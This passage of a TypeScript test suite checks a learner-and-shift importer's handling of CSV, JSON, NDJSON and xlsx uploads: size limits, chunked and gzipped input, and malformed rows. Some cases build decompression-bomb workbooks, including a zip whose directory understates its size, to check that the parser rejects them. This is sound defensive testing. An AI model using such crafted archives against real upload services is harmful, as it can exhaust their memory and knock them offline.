    count <= 512 ? about(standard, ["1 onbekende-kolommen"]) : { ...tooLarge("tooManyColumns"), row: 1 },
  );
}
add("grens", "two rows of three in xlsx", as("xlsx"), goodBook, tooLarge("tooManyRows"), {
  env: { DUAAL_MAX_ROWS: "2" },
});
add("grens", "three rows of three in xlsx", as("xlsx"), goodBook, allGood, { env: { DUAAL_MAX_ROWS: "3" } });
add(
  "grens",
  "seven columns of eight in xlsx",
  as("xlsx"),
  goodBook,
  { ...tooLarge("tooManyColumns"), row: 1 },
  { env: { DUAAL_MAX_COLUMNS: "7" } },
);
add(
  "grens",
  "a cell of 15 characters where 14 are read in xlsx",
  as("xlsx"),
  goodBook,
  // Found while the sheets are looked over, before one is read: its place is all that is known.
  wrongShape("cellTooLong", 2, 2),
  { env: { DUAAL_MAX_CELL_LENGTH: "14" } },
);
add("grens", "a byte too many in xlsx", as("xlsx"), goodBook, tooLarge("tooManyBytes"), {
  env: { DUAAL_MAX_BODY_BYTES: String(bookLength - 1) },
});
add("grens", "inflates too far in xlsx", as("xlsx"), goodBook, tooLarge("inflatesTooFar"), {
  env: { DUAAL_MAX_INFLATED_BYTES: "2000" },
});
const swollen = (before: string, piece: string, after: string): string =>
  `${before}${piece.repeat(Math.ceil((1.5 * mebibyte) / piece.length))}${after}`;
for (const [what, sheet] of [
  ["spaces", swollen("<worksheet>", " ", "")],
  ["rows", swollen("<worksheet><sheetData>", "<row></row>", "")],
  ["a text", swollen('<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>', "x", "</t></is></c></row>")],
  ["cells", swollen('<worksheet><sheetData><row r="1">', "<c/>", "</row>")],
] as const)
  add(
    "bom",
    `a workbook of ${what}`,
    as("xlsx"),
    zipOf({ ...goodParts, "xl/worksheets/sheet1.xml": sheet }),
    tooLarge("inflatesTooFar"),
    tight,
  );
add(
  "bom",
  "a workbook of shared texts",
  as("xlsx"),
  zipOf({ ...goodParts, "xl/sharedStrings.xml": swollen("<sst>", "<si><t>x</t></si>", "</sst>") }),
  tooLarge("inflatesTooFar"),
  tight,
);
/** The directory says less than there is. */
const lying = (): Uint8Array => {
  const bytes = Buffer.from(zipOf({ ...goodParts, "xl/worksheets/sheet1.xml": swollen("<worksheet>", " ", "") }));
  const at = bytes.lastIndexOf("xl/worksheets/sheet1.xml") - 46;
  bytes.writeUInt32LE(100, at + 24);
  return bytes;
};
add("bom", "a workbook that lies about its size", as("xlsx"), lying(), brokenBook, tight);

// ── In pieces, and of many rows ──

const accentedBook = asBook(accented);
for (const [name, type, body] of [
  ["CSV", "csv", bytesOf(csvText)],
  ["CSV in quotes", "csv", bytesOf(quotedText)],
  ["CSV that names its separator", "csv", bytesOf(asCsv(accented, { names: true, end: "\r\n", mark: true }))],
  ["JSON", "json", bytesOf(matrixText)],
  ["JSON objects", "json", bytesOf(objectsText)],
  ["NDJSON", "lines", bytesOf(asLines(accented, "\r\n"))],
  ["xlsx", "xlsx", accentedBook],
] as const)
  for (const pieces of [[1], [2], [3], [5, 1], [64]] as const) {
    add("stukken", `${name} by ${pieces.join(" and ")} bytes`, as(type), body, allGood, { pieces });
    if (pieces[0] === 1 || pieces[0] === 5)
      add(
        "stukken",
        `${name}, gzip, by ${pieces.join(" and ")} bytes`,
        { ...as(type), ...zipped },
        gzipSync(body),
        allGood,
        { pieces },
      );
  }

/** A personal number that nobody has: born in January 2008, with its check digits. */
const inszOf = (turn: number): string => {
  const body = 80_101_000 + Math.floor(turn / 900) * 1_000 + (turn % 900) + 1;
  return `0${body}${String(97 - ((2_000_000_000 + body) % 97)).padStart(2, "0")}`;
};
/** More rows than are looked at together; every hundredth has a day that is none. */
const many: readonly Row[] = Array.from({ length: 2_100 }, (_, turn) => ({
  ...learners[turn % 3],
  referentie: `R${turn} é`,
  insz: inszOf(turn),
  ...(turn % 100 === 99 ? { einde: "31/06/2026" } : {}),
}));
const ofMany: Good = about(
  many.map(
    (_, turn): RowOutcome => ({
      step: ((turn % 3) + 1) as Step,
      ...(turn % 100 === 99 ? { skipped: true, findings: ["cel-onleesbaar"] } : {}),
    }),
  ),
);
for (const [name, type, body] of [
  ["CSV with quotes near its end", "csv", bytesOf(asCsv(many, { end: "\r\n" }).replace(/R20[5-9]\d é/g, '"$&"'))],
  ["xlsx", "xlsx", asBook(many)],
] as const)
  add("stukken", `2,100 learners in ${name}`, as(type), body, ofMany, { pieces: [65_536, 1, 4_093] });
/** So many learners, each with a day that is none. */
export const manyWrong = (count: number): Uint8Array =>
  bytesOf(
    asLines(
      Array.from({ length: count }, (_, turn) => ({
        ...learners[0],
        referentie: `R${turn}`,
        insz: inszOf(turn),
        einde: "31/06/2026",
      })),
    ),
  );

// ── Learners and shifts in one body ──

const shift: Row = {
  referentie: "A1",
  datum: "10/03/2025",
  van: "8:00",
  tot: "17:00",
  pauze: "1:00",
  plaats: "werkplek",
};
const both = (shifts: readonly Row[]): string => `{"lerenden":${asMatrix(learners)},"uurrooster":${asObjects(shifts)}}`;
const ofBoth = (findings: readonly string[] = []): Good => ({ ...allGood, rows: 4, findings });
jsonCase("learners and shifts", both([shift]), ofBoth());
jsonCase(
  "learners and a shift that cannot be read",
  both([{ ...shift, datum: "31/02/2025" }]),
  ofBoth(["2 cel-onleesbaar"]),
);
jsonCase("learners and a shift that goes back", both([{ ...shift, tot: "7:00" }]), ofBoth(["2 dienst-omgekeerd"]));
jsonCase(
  "learners and shifts that stop",
  both([shift]).slice(0, -2),
  unreadable("jsonSyntax", 1, both([shift]).length - 1),
);
jsonCase(
  "learners and shifts, a list in a cell",
  both([{ ...shift, pauze: raw("[]") }]),
  wrongShape("notAValue", 2, "pauze"),
);

export const cases: readonly Case[] = all;
